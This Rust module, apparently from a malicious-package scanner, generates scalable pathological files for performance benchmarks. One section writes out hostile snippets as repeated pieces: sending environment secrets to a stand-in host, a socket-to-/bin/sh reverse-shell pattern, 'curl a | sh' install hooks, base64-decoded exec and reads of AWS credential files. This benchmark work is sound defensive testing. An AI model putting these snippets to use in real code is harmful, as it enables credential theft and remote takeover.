//! Hostile files, each a shape that can be made of any size. In: how many bytes. Out: about that many.
//!
//! Whoever adds something that looks at files adds the shape that is worst for it. Two readers use the list: the bench
//! `growth` (does four times the size cost four times the work?) and the bench `worst` (does the largest file that is
//! analysed take less than two seconds?).

use sigma_core::DistributionKind;

/// One shape.
pub struct Shape {
    /// What it is, for messages.
    pub name: &'static str,
    /// Where it stands in a distribution; its ending decides how it is read.
    pub path: &'static str,
    make: Make,
}

enum Make {
    /// Something that stands once, then a piece that is repeated; `#` becomes the number of the repetition.
    Repeat(&'static str, &'static str),
    /// The same, where the beginning has to be computed.
    After(fn() -> String, &'static str),
    /// So many nested pieces, again and again: opening, middle, closing.
    Nested(usize, &'static str, &'static str, &'static str),
    /// Bytes that are no text.
    Bytes(&'static [u8]),
}

impl Shape {
    /// The kind of distribution that its path belongs to.
    pub fn kind(&self) -> DistributionKind {
        match self.path.starts_with("package/") {
            true => DistributionKind::NpmTarball,
            false => DistributionKind::Sdist,
        }
    }

    /// Bytes of what stands once, whatever the size.
    #[allow(dead_code)] // Not every reader of the list asks.
    pub fn head(&self) -> usize {
        match &self.make {
            Make::Repeat(head, _) => head.len(),
            Make::After(head, _) => head().len(),
            Make::Nested(..) | Make::Bytes(_) => 0,
        }
    }

    /// A file of about `size` bytes.
    pub fn bytes(&self, size: usize) -> Vec<u8> {
        match &self.make {
            Make::Repeat(head, piece) => repeat((*head).to_owned(), piece, size),
            Make::After(head, piece) => repeat(head(), piece, size),
            Make::Nested(depth, open, middle, close) => {
                // A small file holds one piece, as deep as it can be.
                let depth = (size / (open.len() + close.len())).clamp(1, *depth);
                let one = [open.repeat(depth), (*middle).to_owned(), close.repeat(depth)].concat();
                one.repeat((size / one.len()).max(1)).into_bytes()
            }
            Make::Bytes(bytes) => bytes.repeat(size / bytes.len()),
        }
    }
}

fn repeat(mut text: String, piece: &str, size: usize) -> Vec<u8> {
    let mut number = 0;
    while text.len() < size {
        match piece.contains('#') {
            true => text.push_str(&piece.replace('#', &number.to_string())),
            false => text.push_str(piece),
        }
        number += 1;
    }
    text.into_bytes()
}

const fn shape(name: &'static str, path: &'static str, head: &'static str, piece: &'static str) -> Shape {
    Shape { name, path, make: Make::Repeat(head, piece) }
}

const fn after(name: &'static str, path: &'static str, head: fn() -> String, piece: &'static str) -> Shape {
    Shape { name, path, make: Make::After(head, piece) }
}

const fn nested(
    name: &'static str,
    path: &'static str,
    depth: usize,
    parts: (&'static str, &'static str, &'static str),
) -> Shape {
    Shape { name, path, make: Make::Nested(depth, parts.0, parts.1, parts.2) }
}

const PY: &str = "a-1/a.py";
const JS: &str = "package/a.js";
const TS: &str = "package/a.ts";
const TEXT: &str = "package/a.txt";

/// `a = [1, 1, ...]`, as long as a list that is followed may be.
fn list() -> String {
    format!("a = [{}]\n", vec!["1"; 256].join(", "))
}

/// A list of texts that are as long as a text that is followed may be.
fn list_of_texts() -> String {
    format!("import os\nt = '{}'\na = [{}]\n", "x".repeat(16_000), vec!["t"; 256].join(", "))
}

/// A record with as many fields as are followed, all names of one length.
fn record() -> String {
    let fields: Vec<String> = (0..256).map(|n| format!("f{n:03}: 1")).collect();
    format!("const a = {{{}}};\n", fields.join(", "))
}

/// A file that was downloaded, and a long list of names.
fn downloaded() -> String {
    format!("import os, urllib.request\nurllib.request.urlretrieve(u, 'x')\n{}", list().replace('1', "'y'"))
}

fn long_text() -> String {
    format!("import os, base64\nt = '{}'\n", "x".repeat(16_000))
}

/// Every shape.
pub const SHAPES: &[Shape] = &[
    // Nesting.
    shape("open brackets", PY, "", "("),
    shape("open brackets", JS, "", "["),
    shape("open braces", JS, "", "{"),
    shape("open brackets of types", TS, "", "a<"),
    nested("deep brackets", PY, 390, ("(", "a", ")")),
    nested("deep lists", JS, 390, ("[", "1", "],")),
    nested("deep calls", PY, 390, ("f(", "a", ")")),
    nested("deep calls", JS, 390, ("f(", "a", ")")),
    nested("deep functions", JS, 190, ("function f(){", "", "}")),
    nested("deep arrows", JS, 380, ("a=>", "1;", "")),
    nested("deep conditions", JS, 120, ("a?(", "a", "):b")),
    nested("deep conditions", TS, 120, ("a?(b:c)=>(", "a", "):b")),
    nested("deep parenthesised arrows", TS, 190, ("(a=(", "1", "))")),
    nested("deep parenthesised arrows", JS, 190, ("(a=(", "1", "));")),
    nested("deep conditional arrows", TS, 190, ("a?(b):c=>", "1;", "")),
    nested("deep conditional arrows", JS, 190, ("a?(b):c=>", "1;", "")),
    nested("deep patterns in types", TS, 60, ("a as ({b=", "1", "})=>c;")),
    nested("deep patterns in types", JS, 60, ("a as ({b=", "1", "})=>c;")),
    nested("deep assertions", TS, 190, ("<a>(", "1", ");")),
    nested("deep type arguments", TS, 190, ("a<b>(", "1", ");")),
    nested("deep async arrows", TS, 190, ("async(a=", "1", ");")),
    nested("deep patterns", JS, 120, ("({a=", "1", "});")),
    nested("deep lists in brackets", JS, 120, ("([", "1", "])")),
    nested("deep function types", TS, 190, ("(a:", "1", ")=>b;")),
    nested("deep types", TS, 190, ("a<", "b", ">")),
    nested("deep templates", JS, 190, ("`${", "a", "}`")),
    nested("deep texts in texts", PY, 30, ("f'{", "a", "}'")),
    nested("deep with", PY, 1, ("with ", "((((((((((((((((((((a))))))))))))))))))))", ": pass\n")),
    nested("deep with", PY, 1, ("with ", "((((((((((((((((((((a, b))))))))))))))))))))", ": pass\n")),
    nested("deep match", PY, 190, ("match (", "a", ")")),
    nested("deep lambdas", PY, 380, ("lambda:", "1\n", "")),
    nested("not", PY, 1500, ("not ", "a\n", "")),
    nested("else if", JS, 390, ("if(a)b;else ", "c;", "")),
    shape("elif", PY, "if a: pass\n", "elif a: pass\n"),
    nested("elements", JS, 150, ("<a>", "b", "</a>")),
    shape("open elements", JS, "x=", "<a>"),
    // Long chains and lines.
    shape("one sum", PY, "a", "+a"),
    shape("one sum of texts", PY, "x='a'", "+'a'"),
    shape("one sum of texts", JS, "x='a'", "+'a'"),
    nested("sums", PY, 9_000, ("'a'+", "'a'\n", "")),
    nested("sums", JS, 9_000, ("'a'+", "'a';", "")),
    shape("one chain of members", JS, "process", ".a"),
    nested("chains of members", PY, 9_000, (".a", "\nos", "")),
    nested("chains of members", JS, 9_000, (".a", ";process", "")),
    nested("chains of calls", JS, 6_000, ("()", ";require('fs')", "")),
    nested("chains of calls", PY, 6_000, ("()", "\neval", "")),
    nested("chains of methods", PY, 5_000, (".a()", "\nos", "")),
    nested("chains of indices", JS, 6_000, ("[0]", ";process.env", "")),
    nested("chains of indices", PY, 6_000, ("['a']", "\neval", "")),
    shape("comparisons", PY, "a", "<a"),
    shape("logic", JS, "a", "||a"),
    shape("conditions", JS, "", "a?b:"),
    shape("assignments", JS, "", "a="),
    shape("assignments", PY, "", "a="),
    shape("commas", JS, "[", ","),
    shape("commas", PY, "f(", "a,"),
    shape("numbers", JS, "a=[", "1,"),
    shape("numbers", PY, "a=[", "1,"),
    shape("fields", JS, "a={", "f#:1,"),
    shape("fields", PY, "a={", "'f#':1,"),
    shape("statements", JS, "", "a;"),
    shape("statements", PY, "", "a;"),
    shape("empty statements", JS, "", ";"),
    shape("blank lines", PY, "", "\n"),
    shape("carriage returns", PY, "", "\r"),
    shape("mixed line ends", PY, "", "a\r\n\r\n\n\r"),
    shape("mixed line ends", JS, "", "a\r\n\u{2028}\n\r"),
    shape("spaces", PY, "a\n", " "),
    shape("indentation", PY, "", "if a:\n  b\n    c\n"),
    shape("continued lines", PY, "", "\\\n"),
    // Names.
    shape("imports", PY, "", "import m#\n"),
    shape("imports", JS, "", "import {a#} from 'm#';\n"),
    shape("imports from one", PY, "from os import (", "a#, "),
    shape("local imports", JS, "", "require('./m#');"),
    shape("star imports", PY, "", "from os import *\n"),
    shape("functions", PY, "", "def f#(): pass\n"),
    shape("functions that call the next", PY, "import os\n", "def f#(a): f#(a); os.system(a)\n"),
    shape("functions", JS, "", "function f#(a){f#(a)}"),
    shape("arrows", JS, "f(", "a=>a,"),
    shape("parameters", JS, "function f(", "a#,"),
    shape("parameters", PY, "def f(", "a#,"),
    shape("names of an API", PY, "", "v#=eval\n"),
    shape("names in a function", JS, "function f(){", "var v#=eval;"),
    shape("classes", PY, "import os\n", "class A#(os.x, os.y):\n  def run(self): pass\n"),
    shape("decorators", PY, "", "@a\n"),
    shape("decorators", TS, "", "@a "),
    shape("global names", JS, "", "globalThis.a#=eval;"),
    shape("aliases", JS, "var v=require('child_process');", "var v=v;"),
    // Folding.
    shape("a text that grows", PY, "s='a'\n", "s=s+'abc'\n"),
    shape("a text that grows", JS, "var s='a';", "s+='abc';"),
    shape("a text that doubles", PY, "s='a'\n", "s=s+s\n"),
    shape("a text that grows backwards", PY, "s='a'\n", "s=('abc'+s)[::-1]\n"),
    after("joins of long texts", PY, list_of_texts, "t.join(a)\n"),
    after("commands of long texts", PY, list_of_texts, "os.system(a)\n"),
    after("evaluations of long texts", PY, list_of_texts, "eval(t)\n"),
    after("replacements of long texts", PY, long_text, "t.replace('x',t)\n"),
    after("paths of long texts", PY, long_text, "os.path.join(t,t)\n"),
    after("splits of long texts", PY, long_text, "t.split('x')\n"),
    after("decoders of long texts", PY, long_text, "base64.b64decode(t)\n"),
    after("long texts backwards", PY, long_text, "t[::-1]\n"),
    after("long texts in upper case", PY, long_text, "t.upper()\n"),
    after("long texts put together", PY, long_text, "t+a\n"),
    after("long texts in templates", JS, long_text, "`${t}${b}`;"),
    after("lists unpacked", PY, list, "b,c=a\n"),
    after("lists unpacked", JS, list, "[b]=a;"),
    after("lists added", PY, list, "a+[]\n"),
    after("lists backwards", PY, list, "a[::-1]\n"),
    after("lists called", PY, list, "bytes(a)\n"),
    after("lists copied", PY, list, "c=a\n"),
    after("spreads of texts", JS, || format!("t='{}';", "x".repeat(1_000)), "[...t];"),
    after("texts that functions compute", JS, || format!("const t='{}',f=a=>a+t;", "x".repeat(16_000)), "f('a');"),
    after("members of long names", PY, || format!("import os\np=os.{}\n", "a".repeat(140)), "p.abcdef\n"),
    after("spreads in one call", JS, || list() + "f(", "...a,"),
    after("spreads in calls", JS, list, "f(...a);"),
    after("spreads in known calls", JS, list, "eval(...a);"),
    after("applied lists", JS, list, "eval.apply(b,a);"),
    after("loops over lists", PY, list, "[b for b in a]\n"),
    after("fields of a record", JS, record, "a.f255;"),
    after("options of a call", JS, record, "fetch(a);"),
    after("lists of names of downloads", PY, downloaded, "eval(a)\n"),
    after("lists of names of downloads", PY, downloaded, "f(a)\n"),
    nested("texts put together by a method", JS, 16_000, ("'a',", "'a');''.concat('a'", "")),
    shape("numbers of characters", JS, "", "String.fromCharCode(1,1,1);"),
    shape("templates", JS, "x=`", "${a}b"),
    shape("formatted texts", PY, "x=f'", "{a}b"),
    shape("formatted texts side by side", PY, "x=(", "f'{a}' 'b' "),
    shape("texts side by side", PY, "x=(", "'a' "),
    shape("formatting by per cent", PY, "x='a'", "%a"),
    // Literals.
    shape("one text", PY, "x='", "a"),
    shape("one text of lines", PY, "x='''", "a\n"),
    shape("one text of escapes", PY, "x='", "\\x41"),
    shape("one text of escapes", JS, "x='", "\\x41"),
    shape("one text of capital letters", JS, "x='", "QUJD"),
    shape("one template", JS, "x=`", "a\n"),
    shape("one number", PY, "x=1", "0"),
    shape("one number", JS, "x=1", "0n"),
    shape("one name", JS, "x", "a"),
    shape("open texts", PY, "", "'a\n"),
    shape("open texts", JS, "", "\"a\n"),
    shape("quotes", PY, "", "\""),
    shape("quotes", JS, "", "`"),
    shape("back slashes", JS, "", "\\"),
    shape("comments", PY, "", "#\n"),
    shape("comments", JS, "", "/**/"),
    shape("open comments", JS, "a", "/*"),
    shape("regular expressions", JS, "", "/a/;"),
    shape("open regular expressions", JS, "", "=/["),
    shape("open regular expressions", JS, "", "(/a[)]"),
    shape("divisions", JS, "a", "/a"),
    shape("web pages in scripts", JS, "", "<!--\n"),
    // What rules look for.
    shape("evaluations", PY, "", "eval(a)\n"),
    shape("evaluations", JS, "", "eval(a);"),
    shape("commands", PY, "import os\n", "os.system(a)\n"),
    shape("downloads that are run", PY, "import os, requests\n", "a=requests.get(u).text\nexec(a)\nos.system('a')\n"),
    shape("thefts", PY, "import os, requests\n", "requests.post('https://a.test/', data=os.environ)\n"),
    shape("thefts", JS, "", "fetch('https://a.test/',{body:process.env.TOKEN});"),
    shape("hosts", PY, "import requests\n", "requests.get('https://a#.test/')\n"),
    shape("environment", JS, "", "process.env.A#;"),
    shape("secrets of the environment", PY, "import os\n", "os.environ['TOKEN_#']\n"),
    shape("credential files", PY, "", "open('~/.aws/credentials')\n"),
    shape("credential files in one text", PY, "x='", "~/.aws/credentials "),
    shape("addresses", PY, "", "x='http://8.8.8.8/'\n"),
    shape("addresses in one text", PY, "x='", "8.8.8."),
    shape("digits and dots", TEXT, "", "1."),
    shape(
        "sockets",
        PY,
        "import socket, os, subprocess\n",
        "s=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh'])\n",
    ),
    shape("names of obfuscators", JS, "", "var _0x#=_0x1a['shift'];"),
    shape("decoded and run", PY, "import base64\n", "exec(base64.b64decode('aWQ='))\n"),
    shape("keys", TEXT, "", "AKIA"),
    shape("keys", TEXT, "", "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa "),
    shape("keys", TEXT, "", "-----BEGIN RSA PRIVATE KEY-----\n"),
    shape("tokens", TEXT, "", "eyJhbGciOiJ."),
    shape("assignments of secrets", TEXT, "", "password = "),
    shape("letters and digits", TEXT, "", "aB3"),
    shape("hexadecimal digits", TEXT, "", "0a"),
    shape("hidden characters", TEXT, "", "\u{202e}\u{200b}"),
    shape("hidden characters", JS, "", "a\u{fe00};"),
    shape("letters beyond ASCII", PY, "", "ä"),
    shape("letters beyond ASCII", JS, "x='", "漢"),
    shape("marks of composition", TEXT, "a", "\u{301}"),
    shape("blanks", TEXT, "", " \t"),
    shape("addresses of pages", TEXT, "", "https://"),
    shape("angles", TEXT, "", "<"),
    Shape { name: "bytes that are no text", path: PY, make: Make::Bytes(b"\xff\xfe\xfd") },
    Shape { name: "bytes that are no text", path: JS, make: Make::Bytes(b"a=\xff;") },
    Shape { name: "wide characters", path: PY, make: Make::Bytes(b"\xff\xfea\0") },
    Shape { name: "continuation bytes", path: TEXT, make: Make::Bytes(b"a\x80\xc3") },
    // Manifests.
    shape("brackets", "package/package.json", "", "["),
    shape("scripts", "package/package.json", "{\"scripts\":{", "\"install\":\"node a#.js\","),
    shape("fields", "package/package.json", "{\"name\":\"a\",\"bin\":{\"a0\":\"a\"", ",\"a#\":\"a\""),
    shape("one long script", "package/package.json", "{\"scripts\":{\"install\":\"", "curl a | sh;"),
    shape("fields", "package/data.json", "{\"a\":1", ",\"a#\":\"a\""),
    shape("headers", "a-1/PKG-INFO", "", "Name: a\n"),
    shape("sections", "a-1/setup.cfg", "[options.entry_points]\nconsole_scripts =\n", " a# = a:b\n"),
    shape("tables", "a-1/pyproject.toml", "", "[a#]\n"),
    shape("tables inside tables", "a-1/pyproject.toml", "[a", ".a"),
    shape("brackets", "a-1/pyproject.toml", "a=", "["),
    nested("keys inside tables", "a-1/pyproject.toml", 80, ("\na.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a={", "a=1", "}")),
    shape("lines that run", "a-1/a.pth", "", "import a#; a\n"),
    shape("commands", "a-1/setup.py", "from setuptools import setup\nimport os\n", "os.system('curl a | sh')\n"),
];
